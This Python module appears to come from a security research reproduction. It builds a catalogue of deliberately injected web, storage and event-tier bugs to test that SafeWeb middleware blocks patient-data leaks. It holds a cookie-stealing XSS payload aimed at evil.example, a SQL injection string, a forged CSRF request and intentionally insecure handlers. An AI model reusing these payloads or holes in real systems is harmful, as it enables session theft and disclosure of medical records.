"""The §5.2 vulnerability-injection catalogue — a Gruyere-style corpus.

The paper assesses SafeWeb by injecting CVE-style implementation errors
into the MDT application and observing that the middleware prevents the
resulting disclosure. This module generalises the original four
categories into a standing adversarial corpus: every entry declares

* its **injection point** — a patch applied to a freshly built
  :class:`~repro.mdt.deployment.MdtDeployment` (a swapped route handler,
  a rogue event-processing unit, an over-eager replication job);
* its **attack** — the request/event sequence an attacker would issue;
* its **disclosure oracle** — what evidence in the attack's outcome
  constitutes a leak (victim patient names, foreign metric values, …);
* its **expected labelled denial** — the HTTP status and/or audit
  record SafeWeb must produce instead of the disclosure.

The two-direction contract every entry satisfies (asserted by
``tests/security``):

1. *without* SafeWeb's checks the bug really discloses data (the
   injection is live, not a strawman), and
2. *with* SafeWeb the disclosure becomes a labelled denial.

Entries span every tier: the web frontend (XSS, CSRF, IDOR, parameter
tampering, a mis-published debug route), the storage tier (clearance-
unfiltered views, over-replication into an extranet store, raw SQL
assembly), the event tier (unlabelled republication, over-broad
selectors, declassification without privilege) and LWeb-style
multi-tier flows where labelled data crosses handler → event → store →
portal before the leak would surface.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from functools import cached_property
from typing import Any, Callable, Dict, Mapping, Optional, Set, Tuple
from urllib.parse import quote

from repro.core.principals import UnitPrincipal
from repro.core.privileges import PrivilegeSet
from repro.events.unit import Unit
from repro.exceptions import SafeWebError, SecurityViolation
from repro.mdt.aggregator import DataAggregator
from repro.mdt.deployment import MdtDeployment
from repro.mdt.labels import (
    mdt_aggregate_root,
    mdt_label,
    mdt_label_root,
    region_aggregate_root,
)
from repro.mdt.portal import PORTAL_TEMPLATES
from repro.storage.docstore import make_database
from repro.storage.replication import Replicator
from repro.taint import json_codec
from repro.web.framework import halt
from repro.web.response import Response
from repro.web.sessions import SESSION_COOKIE, parse_cookies
from repro.web.templates import render

#: Canonical attack payloads (the corpus' Gruyere cheese).
XSS_PAYLOAD = "<script>new Image().src='//evil.example/'+document.cookie</script>"
SQLI_PAYLOAD = "' OR '1'='1"

_FORM = {"Content-Type": "application/x-www-form-urlencoded"}


@dataclass(frozen=True)
class Vulnerability:
    """One injected bug of the §5.2 corpus."""

    name: str
    title: str
    tier: str  # "web" | "storage" | "events" | "multi"
    cve_examples: tuple
    description: str
    #: The attack sequence; returns an outcome dict (``status``/``text``/
    #: ``violation``) the oracle and the harness inspect.
    attack: Callable[[MdtDeployment], Dict[str, Any]] = None  # type: ignore[assignment]
    #: Evidence of disclosure found in the outcome (empty set = contained).
    leak_oracle: Callable[[MdtDeployment, Dict[str, Any]], Set[str]] = None  # type: ignore[assignment]
    #: Injection applied to the built deployment (None: the bug is only
    #: the safety net the ``unprotected`` overrides switch off).
    patch: Optional[Callable[[MdtDeployment], None]] = None
    #: Apply the patch after ``run_pipeline()`` — required when the
    #: injected code would otherwise run (and in synchronous mode, raise)
    #: during the initial import/aggregate pass.
    patch_after_pipeline: bool = False
    #: Extra deployment kwargs for the *unprotected* build: the specific
    #: safety net this bug evades (``label_events``, ``isolation``,
    #: ``csrf_protect``, …). ``check_labels``/``check_taint`` go off
    #: unconditionally.
    unprotected: Mapping[str, Any] = field(default_factory=dict)
    #: HTTP status of the labelled denial (None: denial is not HTTP-shaped).
    expected_status: Optional[int] = None
    #: ``(component, operation)`` of the expected denied audit record.
    expected_audit: Optional[Tuple[str, str]] = None


class VulnerableDeployment(MdtDeployment):
    """An :class:`MdtDeployment` with scratch space for the corpus: a patch
    stashes what it installs (observer sinks, side-channel handles) where
    the entry's attack and oracle can reach it."""

    @cached_property
    def scratch(self) -> Dict[str, Any]:
        return {}


# -- shared helpers -------------------------------------------------------------


def victim_names(deployment: MdtDeployment, mdt_id: str) -> Set[str]:
    """The patient names whose disclosure the oracles test for."""
    return {str(p.name) for p in deployment.main_db.patients_for_mdt(mdt_id)}


def _names_in(deployment: MdtDeployment, mdt_id: str, text: str) -> Set[str]:
    return {name for name in victim_names(deployment, mdt_id) if name in text}


def _replace_route(app, method: str, pattern: str, handler) -> None:
    """Swap a route's handler in place (the corpus' injection mechanism)."""
    for route in app._routes:
        if route.method == method and route.pattern == pattern:
            route.handler = handler
            return
    raise SafeWebError(f"no route {method} {pattern} to patch")


def _make_public(deployment: MdtDeployment, path: str) -> None:
    """Exempt *path* from authentication — the 'missing hook' bug shape."""
    deployment.middleware._public_paths.add(path)


class _SharedSink(list):
    """A list the IFC jail's deep-copy isolation cannot sever.

    Malicious units record what they observed into one of these; the
    clone a jailed callback runs on keeps appending to the original, so
    the oracle reads exactly what escaped the engine.
    """

    def __deepcopy__(self, memo):
        return self


def _trigger(deployment: MdtDeployment, topic: str, attributes=None) -> Optional[str]:
    """Publish a control event, capturing a synchronous security denial."""
    violation = None
    try:
        deployment.engine.publish(topic, attributes, publisher="scheduler")
    except SecurityViolation as error:
        violation = type(error).__name__
    deployment._settle()
    return violation


def _http_attack(username: str, path: str, victim: str):
    def attack(deployment: MdtDeployment) -> Dict[str, Any]:
        result = deployment.client_for(username).get(path)
        return {"status": result.status, "text": result.text}

    return attack


def _oracle_names(*victims: str):
    def oracle(deployment: MdtDeployment, outcome: Dict[str, Any]) -> Set[str]:
        leaked: Set[str] = set()
        for victim in victims:
            leaked |= _names_in(deployment, victim, outcome.get("text", ""))
        return leaked

    return oracle


# -- web tier: the original Listing 2/3 injections ------------------------------


def _listing3_check(deployment: MdtDeployment, user_id_of, columns=("hospital", "clinic")):
    """Listing 3's ``check_privileges``, with the two places the paper
    breaks it left open: the user lookup and the ACL columns compared."""
    directory = deployment.directory
    webdb = deployment.webdb

    def check_privileges(request, mid) -> bool:
        info = directory.find_or_none(mid)
        user_id = user_id_of(request.user.name)
        if info is None or user_id is None:
            return False
        if webdb.is_admin(user_id):
            return True
        conditions = {column: getattr(info, column) for column in columns}
        return webdb.count_privileges(u_id=user_id, **conditions) > 0

    return check_privileges


def _patch_records_route(deployment: MdtDeployment, check_privileges) -> None:
    """Re-wire Listing 2 (``GET /records/:mid``) over *check_privileges*."""
    dmz_db = deployment.dmz_db

    def records(request):
        mid = request.params["mid"]
        if not check_privileges(request, mid):
            halt(403, "forbidden")
        rows = dmz_db.view("records/by_mid", key=str(mid), include_docs=True)
        rows.sort(key=lambda row: str(row.value.get("patient_id", "")))
        body = json_codec.join_array([row.json for row in rows])
        return Response(body, content_type="application/json")

    _replace_route(deployment.portal, "GET", "/records/:mid", records)


def _patch_omitted_check(deployment: MdtDeployment) -> None:
    # BUG: Listing 2 line 5 removed — nothing is checked before the read.
    _patch_records_route(deployment, lambda request, mid: True)


def _patch_case_insensitive_check(deployment: MdtDeployment) -> None:
    webdb = deployment.webdb

    def user_id_ignoring_case(name):
        # BUG: Listing 3 line 5 modified — LOWER() comparison, so two
        # accounts differing only in case share ACL rows.
        with webdb._lock:
            row = webdb._connection.execute(
                "SELECT id FROM users WHERE LOWER(name) = LOWER(?) ORDER BY id LIMIT 1",
                (name,),
            ).fetchone()
        return None if row is None else row["id"]

    _patch_records_route(deployment, _listing3_check(deployment, user_id_ignoring_case))


def _patch_hospital_only_check(deployment: MdtDeployment) -> None:
    # BUG: Listing 3 line 7 removed — the clinic is no longer compared,
    # so any MDT in the same hospital passes.
    _patch_records_route(
        deployment,
        _listing3_check(deployment, deployment.webdb.user_id, columns=("hospital",)),
    )


def _attack_confusable_user(deployment: MdtDeployment) -> Dict[str, Any]:
    # A second account whose name differs from mdt1's only by case,
    # belonging to MDT 3 in the other region.
    webdb = deployment.webdb
    user_id = webdb.add_user("MDT1", "pw-MDT1", mdt="3", region="region-2")
    webdb.grant_label_privilege(user_id, "clearance", mdt_label("3").uri)
    info = deployment.directory.find("3")
    webdb.grant_acl(user_id, hospital=info.hospital, clinic=info.clinic)
    # MDT1 (cleared for MDT 3 only) asks for MDT 1's records; the
    # case-insensitive lookup resolves the ACL check against mdt1.
    result = deployment.anonymous_client().get("/records/1", auth=("MDT1", "pw-MDT1"))
    return {"status": result.status, "text": result.text}


# -- web tier: stored / reflected XSS -------------------------------------------


def _patch_noticeboard(deployment: MdtDeployment) -> None:
    app = deployment.portal
    board = deployment.scratch.setdefault("noticeboard", [])

    @app.post("/noticeboard")
    def post_notice(request):
        message = request.params.get("message", "")
        if not message:
            halt(400, "empty message")
        board.append(message)  # BUG: stored raw, no html_escape
        return 202, "posted"

    @app.get("/noticeboard")
    def noticeboard(request):
        page = "<html><body><h1>Noticeboard</h1><ul>"
        for message in board:
            page = page + "<li>" + message + "</li>"  # BUG: rendered raw
        return Response(page + "</ul></body></html>", content_type="text/html")


def _attack_stored_xss(deployment: MdtDeployment) -> Dict[str, Any]:
    client = deployment.client_for("mdt1")
    posted = client.post(
        "/noticeboard", headers=_FORM, body="message=" + quote(XSS_PAYLOAD)
    )
    result = client.get("/noticeboard")
    return {"status": result.status, "text": result.text, "post_status": posted.status}


def _patch_feedback_echo(deployment: MdtDeployment) -> None:
    def feedback_echo(request):
        message = request.params.get("message", "")
        page = (
            "<html><body><h1>Feedback received</h1><p>"
            + message  # BUG: user input reflected unescaped
            + "</p></body></html>"
        )
        return Response(page, content_type="text/html")

    _replace_route(deployment.portal, "POST", "/feedback", feedback_echo)


def _attack_reflected_xss(deployment: MdtDeployment) -> Dict[str, Any]:
    result = deployment.client_for("mdt1").post(
        "/feedback", headers=_FORM, body="message=" + quote(XSS_PAYLOAD)
    )
    return {"status": result.status, "text": result.text}


def _oracle_payload(deployment: MdtDeployment, outcome: Dict[str, Any]) -> Set[str]:
    return {"xss-payload"} if XSS_PAYLOAD in outcome.get("text", "") else set()


# -- web tier: CSRF-check bypass ------------------------------------------------


def _attack_csrf_forgery(deployment: MdtDeployment) -> Dict[str, Any]:
    # The victim: an admin coordinator with a live session cookie.
    deployment.webdb.add_user("coordinator", "coordinator-pw", is_admin=True)
    browser = deployment.anonymous_client()
    login = browser.post(
        "/login", headers=_FORM, body="username=coordinator&password=coordinator-pw"
    )
    cookie = parse_cookies(login.headers.get("Set-Cookie")).get(SESSION_COOKIE, "")
    # The forged cross-site request rides the cookie but cannot read the
    # CSRF token (same-origin policy): it provisions an attacker account
    # with full privileges over MDT 3.
    forged = browser.post(
        "/admin/mdts",
        headers={"Cookie": f"{SESSION_COOKIE}={cookie}", **_FORM},
        body="mdt_id=3&username=attacker&password=attacker-pw",
    )
    result = deployment.anonymous_client().get(
        "/records/3", auth=("attacker", "attacker-pw")
    )
    return {"status": forged.status, "text": result.text, "fetch_status": result.status}


# -- web tier: missing after-hook on a debug route ------------------------------


def _patch_debug_export(deployment: MdtDeployment) -> None:
    app = deployment.portal
    dmz_db = deployment.dmz_db

    @app.get("/debug/export")
    def debug_export(request):
        rows = dmz_db.view("records/by_mid", include_docs=True)
        body = json_codec.join_array([row.json for row in rows])
        return Response(body, content_type="application/json")

    # BUG: the route is exempted from authentication — the analogue of a
    # handler registered without the framework's after-filter chain.
    _make_public(deployment, "/debug/export")


def _attack_debug_export(deployment: MdtDeployment) -> Dict[str, Any]:
    result = deployment.anonymous_client().get("/debug/export")
    return {"status": result.status, "text": result.text}


# -- web tier: parameter tampering ----------------------------------------------


def _patch_front_page_override(deployment: MdtDeployment) -> None:
    directory = deployment.directory
    dmz_db = deployment.dmz_db

    def front_page_tampered(request):
        # BUG: a query parameter overrides the authenticated identity.
        mid = str(request.params.get("mdt", "") or request.user.mdt_id or "")
        info = directory.find_or_none(mid)
        if info is None:
            halt(404, "no MDT associated with this account")
        rows = dmz_db.view("records/by_mid", key=str(mid), include_docs=True)
        metric = dmz_db.get_or_none(f"metric-mdt-{mid}") or {}
        return PORTAL_TEMPLATES.render(
            "front-page",
            mdt_id=mid,
            hospital=info.hospital,
            clinic=info.clinic,
            record_count=metric.get("record_count", "0"),
            completeness=metric.get("completeness", "n/a"),
            survival=metric.get("survival", "n/a"),
            rows=rows,
        )

    _replace_route(deployment.portal, "GET", "/", front_page_tampered)


# -- storage tier ---------------------------------------------------------------


def _patch_unfiltered_view(deployment: MdtDeployment) -> None:
    dmz_db = deployment.dmz_db
    check_privileges = _listing3_check(deployment, deployment.webdb.user_id)

    def records_unfiltered(request):
        if not check_privileges(request, request.params["mid"]):
            halt(403, "forbidden")
        # BUG: the Listing-3 ACL check above is intact, but the view
        # query dropped its key — every MDT's records come back.
        rows = dmz_db.view("records/by_mid", include_docs=True)
        rows.sort(key=lambda row: str(row.value.get("patient_id", "")))
        body = json_codec.join_array([row.json for row in rows])
        return Response(body, content_type="application/json")

    _replace_route(deployment.portal, "GET", "/records/:mid", records_unfiltered)


def _patch_extranet_replica(deployment: MdtDeployment) -> None:
    shard_count = len(getattr(deployment.app_db, "shards", ()) or ()) or 1
    extranet = make_database("mdt_app_extranet", shards=shard_count)
    # BUG: wholesale replication — the filter that should keep
    # MDT-labelled documents out of the extranet store is missing.
    Replicator(deployment.app_db, extranet).replicate()
    deployment.scratch["extranet_db"] = extranet
    app = deployment.portal

    @app.get("/extranet/summary")
    def extranet_summary(request):
        names = [
            doc.get("patient_name", "")
            for doc in extranet.all_docs()
            if str(doc.get("_id", "")).startswith("record-")
        ]
        body = json_codec.dumps({"published_cases": names})
        return Response(body, content_type="application/json")

    _make_public(deployment, "/extranet/summary")


def _attack_extranet(deployment: MdtDeployment) -> Dict[str, Any]:
    result = deployment.anonymous_client().get("/extranet/summary")
    return {"status": result.status, "text": result.text}


def _patch_directory_search(deployment: MdtDeployment) -> None:
    app = deployment.portal
    webdb = deployment.webdb

    @app.get("/directory/search")
    def directory_search(request):
        import sqlite3

        term = request.params.get("name", "")
        # BUG: string-assembled SQL — sql_quote() bypassed entirely.
        query = "SELECT name FROM users WHERE name = '" + term + "'"
        try:
            with webdb._lock:
                rows = webdb._connection.execute(query).fetchall()
            matches = [str(row["name"]) for row in rows]
        except sqlite3.Error:
            matches = []
        page = (
            "<html><body><h1>Directory search</h1><p>query: "
            + query
            + "</p><ul>"
            + "".join("<li>" + name + "</li>" for name in matches)
            + "</ul></body></html>"
        )
        return Response(page, content_type="text/html")


def _attack_sqli(deployment: MdtDeployment) -> Dict[str, Any]:
    result = deployment.client_for("mdt1").get(
        "/directory/search?name=" + quote(SQLI_PAYLOAD)
    )
    return {"status": result.status, "text": result.text}


def _oracle_account_enumeration(
    deployment: MdtDeployment, outcome: Dict[str, Any]
) -> Set[str]:
    text = outcome.get("text", "")
    return {
        "<li>" + name + "</li>"
        for name in deployment.webdb.user_names()
        if name != "mdt1" and "<li>" + name + "</li>" in text
    }


# -- event tier: malicious / buggy units ----------------------------------------


class BuggyDataAggregator(DataAggregator):
    """§5.2 design error: matches cases by local number only.

    "We modify the data aggregator unit to ignore the hospital of origin
    when matching events. As a result, the unit generates records that
    mix data of different MDTs."
    """

    def match_key(self, event):
        return event["local_case_number"]  # BUG: hospital of origin ignored


def _patch_buggy_aggregator(deployment: MdtDeployment) -> None:
    # In-process engines only: a cluster_workers deployment keeps its
    # aggregator in a worker process, out of this engine's reach.
    engine = deployment.engine
    engine.unregister("data_aggregator")
    deployment.aggregator = engine.register(BuggyDataAggregator())


class _FeedRepublisher(Unit):
    """BUG: republishes labelled patient reports onto a public topic."""

    unit_name = "feed_republisher"

    def setup(self):
        self.subscribe("/patient_report", self.on_report, selector="type = 'cancer'")

    def on_report(self, event):
        self.publish(
            "/public/feed",
            {"patient_name": event.attributes.get("patient_name", "")},
            remove_all=True,  # strips the MDT label — declassification!
        )


class _TopicObserver(Unit):
    """An unprivileged bystander recording whatever reaches a topic."""

    def __init__(self, name: str, topic: str, fields=("patient_name",)):
        super().__init__()
        self.unit_name = name
        self.sink = _SharedSink()
        self._topic = topic
        self._fields = tuple(fields)

    def setup(self):
        self.subscribe(self._topic, self.on_event)

    def on_event(self, event):
        self.sink.append(
            ":".join(str(event.attributes.get(field, "")) for field in self._fields)
        )


class _RegionalCollector(Unit):
    """BUG: a region-1 dashboard whose selector matches *every* region."""

    unit_name = "regional_collector"

    def __init__(self):
        super().__init__()
        self.sink = _SharedSink()

    def setup(self):
        # Should be scoped to region-1's MDTs; 'type' over-matches all.
        self.subscribe("/patient_report", self.on_report, selector="type = 'cancer'")

    def on_report(self, event):
        self.sink.append(
            str(event.attributes.get("mdt_id", ""))
            + ":"
            + str(event.attributes.get("patient_name", ""))
        )


class _MetricExporter(Unit):
    """BUG: exports MDT aggregates publicly without declassification."""

    unit_name = "metric_exporter"

    def setup(self):
        self.subscribe("/mdt_metric", self.on_metric)

    def on_metric(self, event):
        self.publish(
            "/export/metrics",
            {
                "mdt_id": event.attributes.get("mdt_id", ""),
                "completeness": event.attributes.get("completeness", ""),
            },
            remove_all=True,
        )


def _clearance_principal(name: str, *roots) -> UnitPrincipal:
    return UnitPrincipal(
        name, privileges=PrivilegeSet({"clearance": [root.uri for root in roots]})
    )


def _patch_feed_republisher(deployment: MdtDeployment) -> None:
    engine = deployment.engine
    engine.register(
        _FeedRepublisher(),
        principal=_clearance_principal("feed_republisher", mdt_label_root()),
    )
    observer = _TopicObserver("feed_observer", "/public/feed")
    engine.register(
        observer, principal=UnitPrincipal("feed_observer", privileges=PrivilegeSet.empty())
    )
    deployment.scratch["feed_observer"] = observer


def _attack_feed_republish(deployment: MdtDeployment) -> Dict[str, Any]:
    violation = _trigger(deployment, "/control/import")
    observer = deployment.scratch["feed_observer"]
    return {"violation": violation, "text": "\n".join(observer.sink)}


def _patch_regional_collector(deployment: MdtDeployment) -> None:
    collector = _RegionalCollector()
    deployment.engine.register(
        collector,
        principal=_clearance_principal(
            "regional_collector", mdt_label("1"), mdt_label("2")
        ),
    )
    deployment.scratch["regional_collector"] = collector


def _attack_regional_collector(deployment: MdtDeployment) -> Dict[str, Any]:
    violation = _trigger(deployment, "/control/import")
    collector = deployment.scratch["regional_collector"]
    return {"violation": violation, "text": "\n".join(collector.sink)}


def _oracle_regional_collector(
    deployment: MdtDeployment, outcome: Dict[str, Any]
) -> Set[str]:
    # Key on the sink's mdt_id prefix, not patient names: generated
    # names can collide across MDTs, and the collector legitimately
    # receives region-1 reports it is cleared for.
    return {
        line
        for line in outcome.get("text", "").splitlines()
        if line.startswith(("3:", "4:"))
    }


def _patch_metric_exporter(deployment: MdtDeployment) -> None:
    engine = deployment.engine
    engine.register(
        _MetricExporter(),
        principal=_clearance_principal(
            "metric_exporter",
            mdt_label_root(),
            mdt_aggregate_root(),
            region_aggregate_root(),
        ),
    )
    observer = _TopicObserver(
        "export_observer", "/export/metrics", fields=("mdt_id", "completeness")
    )
    engine.register(
        observer,
        principal=UnitPrincipal("export_observer", privileges=PrivilegeSet.empty()),
    )
    deployment.scratch["export_observer"] = observer


def _attack_metric_export(deployment: MdtDeployment) -> Dict[str, Any]:
    violation = _trigger(deployment, "/control/aggregate", {"mdt_id": "3"})
    observer = deployment.scratch["export_observer"]
    return {"violation": violation, "observed": list(observer.sink)}


def _oracle_metric_export(
    deployment: MdtDeployment, outcome: Dict[str, Any]
) -> Set[str]:
    return {
        "mdt-3-aggregate:" + entry
        for entry in outcome.get("observed", ())
        if entry.startswith("3:")
    }


# -- multi-tier: LWeb-style cross-layer flows -----------------------------------

_BULLETIN_SOURCE = (
    "<html><body><h1>Portal bulletin</h1><p><%= headline %></p></body></html>"
)


class _BulletinWriter(Unit):
    """Privileged persistence hop of the bulletin flow (can do I/O)."""

    unit_name = "bulletin_writer"

    def __init__(self, app_db):
        super().__init__()
        self._app_db = app_db

    def setup(self):
        self.subscribe("/bulletin/post", self.on_post)

    def on_post(self, event):
        self._app_db.upsert(
            {
                "_id": "bulletin-latest",
                "type": "bulletin",
                "headline": event.attributes.get("headline", ""),
            }
        )


def _patch_bulletin(deployment: MdtDeployment) -> None:
    app = deployment.portal
    dmz_db = deployment.dmz_db
    engine = deployment.engine
    engine.register(
        _BulletinWriter(deployment.app_db),
        principal=UnitPrincipal("bulletin_writer", privileged=True),
    )

    @app.post("/bulletin")
    def post_bulletin(request):
        mid = str(request.params.get("mdt", ""))
        rows = dmz_db.view("records/by_mid", key=mid, include_docs=True)
        headline = rows[0].value.get("patient_name", "") if rows else ""
        # BUG: the handler read a labelled document but declares the
        # event public — external ingress trusts the declared labels.
        engine.publish("/bulletin/post", {"headline": headline}, publisher="portal")
        return 202, "bulletin posted"

    @app.get("/bulletin")
    def bulletin(request):
        document = dmz_db.get_or_none("bulletin-latest") or {}
        return render(_BULLETIN_SOURCE, headline=document.get("headline", ""))


def _attack_bulletin(deployment: MdtDeployment) -> Dict[str, Any]:
    client = deployment.client_for("mdt1")
    posted = client.post("/bulletin", headers=_FORM, body="mdt=3")
    deployment._settle()
    deployment.replicate()
    result = client.get("/bulletin")
    return {"status": result.status, "text": result.text, "post_status": posted.status}


class _ExportGateway(Unit):
    """BUG: spools labelled reports to a file — an unlabelled side channel."""

    unit_name = "export_gateway"

    def __init__(self, path: str):
        super().__init__()
        self._path = path

    def setup(self):
        self.subscribe("/patient_report", self.on_report, selector="type = 'cancer'")

    def on_report(self, event):
        # File I/O from a jailed unit: the isolation audithook denies it.
        with open(self._path, "a") as spool:
            spool.write(str(event.attributes.get("patient_name", "")) + "\n")


def _patch_export_feed(deployment: MdtDeployment) -> None:
    import os
    import tempfile

    handle, path = tempfile.mkstemp(prefix="safeweb-export-", suffix=".feed")
    os.close(handle)
    deployment.scratch["export_spool"] = path
    deployment.engine.register(
        _ExportGateway(path),
        principal=_clearance_principal("export_gateway", mdt_label_root()),
    )
    app = deployment.portal

    @app.get("/export/feed")
    def export_feed(request):
        try:
            with open(path) as spool:
                content = spool.read()
        except OSError:
            content = ""
        return Response(content, content_type="text/plain")

    _make_public(deployment, "/export/feed")


def _attack_export_feed(deployment: MdtDeployment) -> Dict[str, Any]:
    violation = _trigger(deployment, "/control/import")
    result = deployment.anonymous_client().get("/export/feed")
    return {"status": result.status, "text": result.text, "violation": violation}


# -- the registry ---------------------------------------------------------------

VULNERABILITIES: Dict[str, Vulnerability] = {
    vulnerability.name: vulnerability
    for vulnerability in (
        # ---- web tier -------------------------------------------------------
        Vulnerability(
            name="omitted_access_check",
            title="Omitted Access Checks",
            tier="web",
            cve_examples=("CVE-2011-0701", "CVE-2010-2353", "CVE-2010-0752"),
            description=(
                "The MDT privilege check preceding patient-detail filtering "
                "is removed (Listing 2, line 5): any authenticated user can "
                "request any MDT's records."
            ),
            patch=_patch_omitted_check,
            attack=_http_attack("mdt1", "/records/3", "3"),
            leak_oracle=_oracle_names("3"),
            expected_status=403,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="access_check_error",
            title="Errors in Access Checks",
            tier="web",
            cve_examples=("CVE-2011-0449", "CVE-2010-3092", "CVE-2010-4403"),
            description=(
                "The user lookup in the access check ignores username case "
                "(Listing 3, line 5): accounts differing only in case share "
                "each other's application-level privileges."
            ),
            patch=_patch_case_insensitive_check,
            attack=_attack_confusable_user,
            leak_oracle=_oracle_names("1"),
            expected_status=403,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="inappropriate_access_check",
            title="Inappropriate Access Checks",
            tier="web",
            cve_examples=("CVE-2010-4775", "CVE-2009-2431"),
            description=(
                "The clinic-equality condition is removed from "
                "check_privileges (Listing 3, line 7): any MDT can pass the "
                "check for every MDT in the same hospital."
            ),
            patch=_patch_hospital_only_check,
            attack=_http_attack("mdt1", "/records/2", "2"),
            leak_oracle=_oracle_names("2"),
            expected_status=403,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="stored_xss",
            title="Stored Cross-Site Scripting",
            tier="web",
            cve_examples=("CVE-2010-4183", "CVE-2011-0526"),
            description=(
                "A noticeboard route stores user messages verbatim and a "
                "companion page renders them by raw string concatenation: "
                "a posted <script> payload reaches every reader's browser."
            ),
            patch=_patch_noticeboard,
            attack=_attack_stored_xss,
            leak_oracle=_oracle_payload,
            expected_status=400,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="reflected_xss",
            title="Reflected Cross-Site Scripting",
            tier="web",
            cve_examples=("CVE-2010-2490", "CVE-2011-0446"),
            description=(
                "The feedback acknowledgement page echoes the submitted "
                "message into its HTML without escaping: the classic "
                "reflected XSS shape."
            ),
            patch=_patch_feedback_echo,
            attack=_attack_reflected_xss,
            leak_oracle=_oracle_payload,
            expected_status=400,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="csrf_check_bypass",
            title="CSRF Check Bypass",
            tier="web",
            cve_examples=("CVE-2010-1482", "CVE-2011-0447"),
            description=(
                "The Rack::Csrf-analogue token check is disabled on the "
                "admin surface: a forged cross-site POST riding an admin's "
                "session cookie provisions an attacker account with "
                "privileges over a foreign MDT."
            ),
            unprotected={"csrf_protect": False},
            attack=_attack_csrf_forgery,
            leak_oracle=_oracle_names("3"),
            expected_status=403,
            expected_audit=("frontend", "csrf"),
        ),
        Vulnerability(
            name="missing_after_hook",
            title="Missing Response Hook on a Debug Route",
            tier="web",
            cve_examples=("CVE-2010-3933", "CVE-2011-2929"),
            description=(
                "A debug export route is registered outside the "
                "authenticated filter chain: anonymous requests receive a "
                "JSON dump of every MDT's records."
            ),
            patch=_patch_debug_export,
            patch_after_pipeline=True,
            attack=_attack_debug_export,
            leak_oracle=_oracle_names("3"),
            expected_status=403,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="parameter_tampering",
            title="Parameter Tampering",
            tier="web",
            cve_examples=("CVE-2010-0899", "CVE-2008-5762"),
            description=(
                "The front page honours an ?mdt= query parameter over the "
                "authenticated account's MDT: any user renders any MDT's "
                "overview by editing the URL."
            ),
            patch=_patch_front_page_override,
            attack=_http_attack("mdt1", "/?mdt=3", "3"),
            leak_oracle=_oracle_names("3"),
            expected_status=403,
            expected_audit=("frontend", "respond"),
        ),
        # ---- storage tier ---------------------------------------------------
        Vulnerability(
            name="clearance_unfiltered_view",
            title="Clearance-Unfiltered View Query",
            tier="storage",
            cve_examples=("CVE-2010-2353", "CVE-2012-5649"),
            description=(
                "The records route keeps its ACL check but drops the view "
                "key: the records/by_mid query returns every MDT's "
                "documents, so a request for the user's own MDT carries "
                "the whole database."
            ),
            patch=_patch_unfiltered_view,
            attack=_http_attack("mdt1", "/records/1", "3"),
            leak_oracle=_oracle_names("2", "3", "4"),
            expected_status=403,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="dmz_overreplication",
            title="Over-Replication into the Extranet Store",
            tier="storage",
            cve_examples=("CVE-2012-5650", "CVE-2017-12635"),
            description=(
                "A replication job copies the application database "
                "wholesale into an extranet store whose summary page is "
                "public: MDT-labelled documents cross the trust boundary "
                "with the data (their labels ride along in the sidecars)."
            ),
            patch=_patch_extranet_replica,
            patch_after_pipeline=True,
            attack=_attack_extranet,
            leak_oracle=_oracle_names("1", "2", "3", "4"),
            expected_status=403,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="sql_quote_bypass",
            title="SQL Assembly Bypassing sql_quote",
            tier="storage",
            cve_examples=("CVE-2010-1329", "CVE-2011-0701"),
            description=(
                "A directory-search route assembles its SQL by string "
                "concatenation instead of sql_quote()/parameters: a "
                "classic ' OR '1'='1 payload enumerates every account in "
                "the web database."
            ),
            patch=_patch_directory_search,
            attack=_attack_sqli,
            leak_oracle=_oracle_account_enumeration,
            expected_status=400,
            expected_audit=("frontend", "respond"),
        ),
        # ---- event tier -----------------------------------------------------
        Vulnerability(
            name="design_error",
            title="Design Errors",
            tier="events",
            cve_examples=("CVE-2011-0899", "CVE-2010-3933"),
            description=(
                "The data aggregator matches case events by local case "
                "number only, ignoring the hospital of origin: generated "
                "records mix data of different MDTs."
            ),
            patch=_patch_buggy_aggregator,
            attack=_http_attack("mdt1", "/records/1", "2"),
            leak_oracle=_oracle_names("2", "3", "4"),
            expected_status=403,
            expected_audit=("frontend", "respond"),
        ),
        Vulnerability(
            name="unlabeled_republish",
            title="Unlabelled Republication",
            tier="events",
            cve_examples=("CVE-2010-3847", "CVE-2014-0193"),
            description=(
                "A cleared unit republishes patient reports onto a public "
                "topic with every label stripped; an uncleared bystander "
                "subscribed there records the patient names."
            ),
            patch=_patch_feed_republisher,
            patch_after_pipeline=True,
            unprotected={"label_events": False},
            attack=_attack_feed_republish,
            leak_oracle=_oracle_names("1", "2", "3", "4"),
            expected_audit=("engine", "declassify"),
        ),
        Vulnerability(
            name="overbroad_selector",
            title="Over-Broad Subscription Selector",
            tier="events",
            cve_examples=("CVE-2014-3612", "CVE-2015-5254"),
            description=(
                "A region-1 dashboard subscribes with a selector that "
                "matches every region's patient reports: without the "
                "broker's clearance filter it records foreign-region "
                "patients."
            ),
            patch=_patch_regional_collector,
            patch_after_pipeline=True,
            unprotected={"label_checks_in_broker": False},
            attack=_attack_regional_collector,
            leak_oracle=_oracle_regional_collector,
            expected_audit=("broker", "deliver"),
        ),
        Vulnerability(
            name="declassify_without_privilege",
            title="Declassification Without Privilege",
            tier="events",
            cve_examples=("CVE-2014-0050", "CVE-2016-6814"),
            description=(
                "A metric-export unit strips the aggregate labels from "
                "/mdt_metric events before republishing them publicly — "
                "holding clearance to read them but no declassification "
                "privilege."
            ),
            patch=_patch_metric_exporter,
            patch_after_pipeline=True,
            unprotected={"label_events": False},
            attack=_attack_metric_export,
            leak_oracle=_oracle_metric_export,
            expected_audit=("engine", "declassify"),
        ),
        # ---- multi-tier (LWeb-style cross-layer flows) ----------------------
        Vulnerability(
            name="bulletin_board",
            title="Cross-Tier Bulletin Leak",
            tier="multi",
            cve_examples=("CVE-2011-2930", "CVE-2018-1000525"),
            description=(
                "A portal handler reads a labelled record from the DMZ "
                "store, publishes it as an *unlabelled* event, a "
                "privileged unit persists it, replication carries it back "
                "into the DMZ and a bulletin page renders it: handler → "
                "event → store → portal, the full LWeb loop. The label "
                "sidecar on the stored value survives every hop and the "
                "response check catches it at the boundary."
